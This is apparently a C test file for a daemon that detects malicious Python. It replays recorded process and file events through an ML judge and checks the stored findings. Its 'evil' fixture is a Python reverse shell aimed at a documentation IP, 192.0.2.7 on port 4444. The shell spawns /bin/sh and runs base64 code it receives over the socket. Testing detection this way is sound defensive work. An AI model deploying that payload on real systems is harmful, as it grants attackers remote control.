// SPDX-License-Identifier: GPL-2.0-or-later
/*
 * test_replay.c - the whole pipeline, from composed kernel messages to what
 * is in the database. The judge is the real one, build/bin/mpy-judge with the
 * committed model, so this runs from the top of the tree.
 */
#include "daemon/replay.h"

#include <errno.h>
#include <fcntl.h>
#include <stdlib.h>
#include <unistd.h>

#include "core/json.h"
#include "core/store.h"
#include "daemon/facts.h"
#include "daemon/pipeline.h"
#include "../../replay/compose.h"
#include "../test.h"

#define BUNDLE "model/default.bundle"
#define JUDGE  "build/bin/mpy-judge"
#define PYTHON "/usr/bin/python3.11"

/* Inert where it runs (TEST-NET), malicious to read. */
static const char evil[] =
	"import socket, subprocess, os, base64\n"
	"s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\n"
	"s.connect(('192.0.2.7', 4444))\n"
	"os.dup2(s.fileno(), 0)\n"
	"os.dup2(s.fileno(), 1)\n"
	"os.dup2(s.fileno(), 2)\n"
	"exec(base64.b64decode(s.recv(1024)))\n"
	"subprocess.call(['/bin/sh', '-i'])\n";

static const char good[] = "import sys\n\nprint('hello', sys.argv)\n";

struct scene {
	char dir[64], recording[80], database[80];
	struct mpy_recorder *recorder;
	struct mpy_store *store;
	uint64_t seq;
};

static void put_host(struct scene *scene)
{
	const struct mpy_host host = { (char *)"0123456789abcdef"
					       "0123456789abcdef",
				       (char *)"testhost", (char *)"6.1" };
	const struct mpy_file_id id = { .present = true, .dev = TEST_DEV,
					.inode = PYTHON_INODE,
					.size = 6000000, .mtime_ns = 1,
					.ctime_ns = 2 };
	struct mpy_image_facts image = { MPY_IMAGE_LAUNCHES, "" };
	struct mpy_blob blob = { NULL, 0, 0, false };

	mpy_host_put(&blob, &host);
	mpy_recorder_add(scene->recorder, MPY_RECORD_HOST, 0, blob.data,
			 blob.size);
	mpy_blob_free(&blob);
	memset(image.sha256, 'a', 64);
	mpy_image_facts_put(&blob, &id, &image);
	mpy_recorder_add(scene->recorder, MPY_RECORD_IMAGE, 0, blob.data,
			 blob.size);
	mpy_blob_free(&blob);
}

static void begin(struct scene *scene)
{
	memset(scene, 0, sizeof(*scene));
	snprintf(scene->dir, sizeof(scene->dir), "/tmp/mpy-test-XXXXXX");
	CHECK(mkdtemp(scene->dir) != NULL);
	snprintf(scene->recording, sizeof(scene->recording), "%s/r",
		 scene->dir);
	snprintf(scene->database, sizeof(scene->database), "%s/db", scene->dir);
	CHECK(mpy_recorder_open(scene->recording, &scene->recorder) == 0);
	put_host(scene);
}

static void end(struct scene *scene)
{
	static const char *const names[] = { "r", "db", "db-wal", "db-shm" };
	char path[128];
	size_t i;

	mpy_store_close(scene->store);
	for (i = 0; i < 4; i++) {
		snprintf(path, sizeof(path), "%s/%s", scene->dir, names[i]);
		unlink(path);
	}
	rmdir(scene->dir);
}

static struct actor process(uint32_t pid, uint32_t ppid)
{
	return (struct actor){ pid, ppid, "/root", PYTHON };
}

/* argv: size bytes with NULs. */
static uint64_t put_exec(struct scene *scene, struct actor who,
			 const char *argv, size_t size)
{
	uint64_t seq = ++scene->seq;

	keep(scene->recorder,
	     new_exec(seq, who, "/usr/bin/python3", size));
	keep_field(scene->recorder, seq, MPY_FIELD_ARGV, argv, size);
	return seq;
}
#define ARGV(text) text, sizeof(text)

static void put_read(struct scene *scene, struct actor who, const char *path,
		     uint64_t inode, const char *text)
{
	uint64_t seq = ++scene->seq;

	keep(scene->recorder, new_read(seq, who, path, inode, strlen(text)));
	keep_field(scene->recorder, seq, MPY_FIELD_CONTENTS, text,
		   strlen(text));
}

static void put_operand(struct scene *scene, uint64_t seq,
			enum mpy_operand kind, uint64_t inode,
			const char *resolved)
{
	struct mpy_exec_facts facts = { .operand = kind, .dev = TEST_DEV,
					.inode = inode,
					.resolved = (char *)resolved };
	struct mpy_blob blob = { NULL, 0, 0, false };

	facts.n_ancestors = 1;
	facts.ancestors[0] = (struct mpy_ancestor_fact){
		1, 1, (char *)"/bin/sh", (uint8_t *)"sh\0-c\0x", 8
	};
	mpy_exec_facts_put(&blob, &facts);
	mpy_recorder_add(scene->recorder, MPY_RECORD_EXEC, seq, blob.data,
			 blob.size);
	mpy_blob_free(&blob);
}

static int replay(struct scene *scene)
{
	const struct mpy_pipeline_settings settings = { 262144, 60000, "", BUNDLE,
							JUDGE };
	char why[600] = "";
	int r;

	CHECK(mpy_recorder_close(scene->recorder) == 0);
	CHECK(mpy_store_open(scene->database, MPY_STORE_WRITE, &scene->store,
			     why, sizeof(why)) == 0);
	r = mpy_replay_run(scene->recording, &settings, scene->store, why,
			   sizeof(why));
	if (r < 0)
		printf("# %s\n", why);
	return r;
}

struct found {
	struct mpy_json *rows[8];
	size_t n;
};

static int keep_row(void *context, const struct mpy_json *row)
{
	struct found *found = context;

	if (found->n < 8)
		found->rows[found->n] = mpy_json_copy(row);
	found->n++;
	return 0;
}

static struct found list(struct scene *scene, bool observations)
{
	const struct mpy_store_query query = { .observations = observations };
	struct found found = { { NULL }, 0 };

	CHECK(mpy_store_list(scene->store, &query, keep_row, &found) == 0);
	return found;
}

static void free_found(struct found *found)
{
	size_t i;

	for (i = 0; i < found->n && i < 8; i++)
		mpy_json_free(found->rows[i]);
}

static const char *str_of(const struct found *found, const char *object,
			  const char *key)
{
	return mpy_json_str(mpy_json_get(found->rows[0], object), key,
			    "(absent)");
}

static bool can_run(void)
{
	return access(BUNDLE, R_OK) == 0 && access(JUDGE, X_OK) == 0;
}

static void a_script_by_its_path(void)
{
	struct scene scene;
	struct found found;

	if (!can_run())
		SKIP("needs " JUDGE " and " BUNDLE);
	begin(&scene);
	put_operand(&scene, put_exec(&scene, process(100, 1),
				     ARGV("python3\0-B\0x/../f.py\0arg")),
		    MPY_OPERAND_FILE, 5, NULL);
	put_read(&scene, process(100, 1), "/usr/lib/python3.11/os.py", 9, good);
	put_read(&scene, process(100, 1), "/root/f.py", 5, evil);
	put_read(&scene, process(100, 1), "/root/f.py", 5, evil);
	CHECK(replay(&scene) == 0);
	found = list(&scene, false);
	CHECK(found.n == 1);
	if (found.n == 1) {
		CHECK_STR(mpy_json_str(found.rows[0], "slug", ""),
			  "malicious-python");
		CHECK_STR(str_of(&found, "script", "path"), "/root/f.py");
		CHECK_STR(str_of(&found, "script", "sight"), "file");
		CHECK_STR(str_of(&found, "script", "link"), "(absent)");
		CHECK_STR(str_of(&found, "script", "contents"), evil);
		CHECK_STR(str_of(&found, "binary", "path"), PYTHON);
		CHECK_STR(str_of(&found, "binary", "link"),
			  "/usr/bin/python3");
		CHECK(strlen(str_of(&found, "binary", "sha256")) == 64);
		CHECK_STR(str_of(&found, "process", "cwd"), "/root");
		CHECK_STR(str_of(&found, "resource", "name"),
			  "//host/0123456789abcdef0123456789abcdef");
		CHECK_STR(str_of(&found, "resource", "project_display_name"),
			  "testhost");
		CHECK(mpy_json_int(mpy_json_get(found.rows[0], "process"),
				   "pid", 0) == 100);
		CHECK(mpy_json_int(found.rows[0], "occurrences", 0) == 1);
		CHECK(mpy_json_int(mpy_json_get(found.rows[0], "script"),
				   "line_count", 0) == 8);
		CHECK(mpy_json_length(mpy_json_get(
			      mpy_json_get(found.rows[0], "process"),
			      "ancestors")) == 1);
	}
	free_found(&found);
	end(&scene);
}

static void code_on_the_command_line(void)
{
	struct scene scene;
	struct found found;
	char argv[1024] = "python3\0-c";
	size_t size = 11 + sizeof(evil);

	if (!can_run())
		SKIP("needs " JUDGE " and " BUNDLE);
	memcpy(argv + 11, evil, sizeof(evil));
	begin(&scene);
	put_exec(&scene, process(100, 1), argv, size);
	put_exec(&scene, process(101, 1), ARGV("python3\0-c\0print(1)"));
	CHECK(replay(&scene) == 0);
	found = list(&scene, false);
	CHECK(found.n == 1);
	if (found.n == 1) {
		CHECK_STR(str_of(&found, "script", "sight"), "argv");
		CHECK_STR(str_of(&found, "script", "path"), "(absent)");
		CHECK_STR(str_of(&found, "script", "file_sha256"), "(absent)");
		CHECK_STR(str_of(&found, "script", "file_sha256_absent"),
			  "the code is not in a file");
		CHECK_STR(str_of(&found, "script", "contents"), evil);
		CHECK(mpy_json_length(mpy_json_get(
			      mpy_json_get(found.rows[0], "process"),
			      "argv")) == 3);
	}
	free_found(&found);
	end(&scene);
}

static void a_link_is_followed_by_identity(void)
{
	struct scene scene;
	struct found found;

	if (!can_run())
		SKIP("needs " JUDGE " and " BUNDLE);
	begin(&scene);
	put_operand(&scene,
		    put_exec(&scene, process(100, 1), ARGV("python3\0run")),
		    MPY_OPERAND_FILE, 5, NULL);
	put_read(&scene, process(100, 1), "/opt/other", 6, evil);
	put_read(&scene, process(100, 1), "/opt/real", 5, evil);
	CHECK(replay(&scene) == 0);
	found = list(&scene, false);
	CHECK(found.n == 1);
	if (found.n == 1) {
		CHECK_STR(str_of(&found, "script", "path"), "/opt/real");
		CHECK_STR(str_of(&found, "script", "link"), "/root/run");
	}
	free_found(&found);
	end(&scene);
}

static void a_directory_and_a_module(void)
{
	struct scene scene;
	struct found found;

	if (!can_run())
		SKIP("needs " JUDGE " and " BUNDLE);
	begin(&scene);
	put_operand(&scene,
		    put_exec(&scene, process(100, 1), ARGV("python3\0app")),
		    MPY_OPERAND_DIRECTORY, 4, "/srv/app");
	put_read(&scene, process(100, 1), "/srv/app/__main__.py", 5, evil);
	put_exec(&scene, process(101, 1), ARGV("python3\0-m\0pkg.tool"));
	put_read(&scene, process(101, 1), "/x/pkg/tool.py", 6, evil);
	CHECK(replay(&scene) == 0);
	found = list(&scene, false);
	CHECK(found.n == 2);
	if (found.n == 2) {
		CHECK_STR(str_of(&found, "script", "path"),
			  "/srv/app/__main__.py");
		CHECK_STR(str_of(&found, "script", "link"), "/root/app");
		CHECK_STR(mpy_json_str(mpy_json_get(found.rows[1], "script"),
				       "sight", ""),
			  "module");
	}
	free_found(&found);
	end(&scene);
}

static void what_is_only_opened_is_an_observation(void)
{
	struct scene scene;
	struct found found;

	if (!can_run())
		SKIP("needs " JUDGE " and " BUNDLE);
	begin(&scene);
	put_operand(&scene,
		    put_exec(&scene, process(100, 1),
			     ARGV("python3\0lint.py\0bad.py")),
		    MPY_OPERAND_FILE, 5, NULL);
	put_read(&scene, process(100, 1), "/root/lint.py", 5, good);
	put_read(&scene, process(100, 1), "/root/bad.py", 6, evil);
	put_read(&scene, process(100, 1), "/root/bad.txt", 7, evil);
	CHECK(replay(&scene) == 0);
	found = list(&scene, false);
	CHECK(found.n == 0);
	free_found(&found);
	found = list(&scene, true);
	CHECK(found.n == 1);
	if (found.n == 1) {
		CHECK_STR(mpy_json_str(found.rows[0], "slug", ""),
			  "opened-python");
		CHECK_STR(str_of(&found, "script", "path"), "/root/bad.py");
	}
	free_found(&found);
	end(&scene);
}

static void runs_are_counted_not_opens(void)
{
	struct scene scene;
	struct found found;
	uint32_t pid;

	if (!can_run())
		SKIP("needs " JUDGE " and " BUNDLE);
	begin(&scene);
	for (pid = 100; pid < 103; pid++) {
		put_exec(&scene, process(pid, 1), ARGV("python3\0f.py"));
		put_read(&scene, process(pid, 1), "/root/f.py", 5, evil);
		put_read(&scene, process(pid, 1), "/root/f.py", 5, evil);
		/* a fork without exec belongs to the run */
		put_read(&scene, process(pid + 100, pid), "/root/f.py", 5,
			 evil);
	}
	CHECK(replay(&scene) == 0);
	found = list(&scene, false);
	CHECK(found.n == 1);
	if (found.n == 1)
		CHECK(mpy_json_int(found.rows[0], "occurrences", 0) == 3);
	free_found(&found);
	end(&scene);
}

static void a_large_file_is_judged_whole(void)
{
	struct scene scene;
	struct found found;
	struct mpy_blob blob = { NULL, 0, 0, false };
	struct mpy_file_facts facts = { .size = 70000 };
	struct message *m;
	char *whole = malloc(70000);

	if (!can_run()) {
		free(whole);
		SKIP("needs " JUDGE " and " BUNDLE);
	}
	memset(whole, '\n', 70000); /* the evil part is behind the snapshot */
	memcpy(whole + 69000, evil, sizeof(evil) - 1);
	begin(&scene);
	put_exec(&scene, process(100, 1), ARGV("python3\0f.py"));
	m = new_read(++scene.seq, process(100, 1), "/root/f.py", 5, 65536);
	add(m, MPY_A_CONTENTS_TRUNCATED, NULL, 0);
	keep(scene.recorder, m);
	keep_field(scene.recorder, scene.seq, MPY_FIELD_CONTENTS, whole, 65536);
	facts.bytes = (uint8_t *)whole;
	facts.bytes_size = 70000;
	CHECK(mpy_hash_bytes(whole, 70000, facts.sha256) == 0);
	mpy_file_facts_put(&blob, &facts);
	mpy_recorder_add(scene.recorder, MPY_RECORD_FILE, scene.seq, blob.data,
			 blob.size);
	mpy_blob_free(&blob);
	CHECK(replay(&scene) == 0);
	found = list(&scene, false);
	CHECK(found.n == 1);
	if (found.n == 1) {
		CHECK_STR(str_of(&found, "script", "file_sha256"),
			  facts.sha256);
		CHECK(mpy_json_int(mpy_json_get(found.rows[0], "script"),
				   "file_size", 0) == 70000);
	}
	free_found(&found);
	end(&scene);
	free(whole);
}

/* That it was opened before does not make it pass when it is run. */
static void what_cannot_be_judged_is_told_when_it_runs(void)
{
	static const char noise[] = "\x01\x02\x80\xff\x03\xfe\x05\x90\xc1\x06";
	struct scene scene;
	struct found found;

	if (!can_run())
		SKIP("needs " JUDGE " and " BUNDLE);
	begin(&scene);
	put_exec(&scene, process(100, 1), ARGV("python3\0-c\0print(1)"));
	put_read(&scene, process(100, 1), "/root/noise.py", 5, noise);
	put_operand(&scene, put_exec(&scene, process(101, 1),
				     ARGV("python3\0noise.py")),
		    MPY_OPERAND_FILE, 5, NULL);
	put_read(&scene, process(101, 1), "/root/noise.py", 5, noise);
	CHECK(replay(&scene) == 0);
	found = list(&scene, true);
	CHECK(found.n == 1);
	if (found.n == 1)
		CHECK_STR(mpy_json_str(found.rows[0], "slug", ""),
			  "unreadable-python");
	free_found(&found);
	end(&scene);
}

static void a_damaged_recording_is_refused(void)
{
	const struct mpy_pipeline_settings settings = { 262144, 60000, "", BUNDLE,
							JUDGE };
	struct scene scene;
	char why[600] = "";

	begin(&scene);
	mpy_recorder_add(scene.recorder, MPY_RECORD_IMAGE, 0, "xx", 2);
	mpy_recorder_close(scene.recorder);
	CHECK(mpy_replay_run(scene.recording, &settings, NULL, why,
			     sizeof(why)) == -EBADMSG);
	CHECK(why[0] != '\0');
	CHECK(mpy_replay_run("/nonexistent", &settings, NULL, why,
			     sizeof(why)) == -ENOENT);
	end(&scene);
}

int main(void)
{
	RUN(a_script_by_its_path);
	RUN(code_on_the_command_line);
	RUN(a_link_is_followed_by_identity);
	RUN(a_directory_and_a_module);
	RUN(what_is_only_opened_is_an_observation);
	RUN(runs_are_counted_not_opens);
	RUN(a_large_file_is_judged_whole);
	RUN(what_cannot_be_judged_is_told_when_it_runs);
	RUN(a_damaged_recording_is_refused);
	return DONE();
}
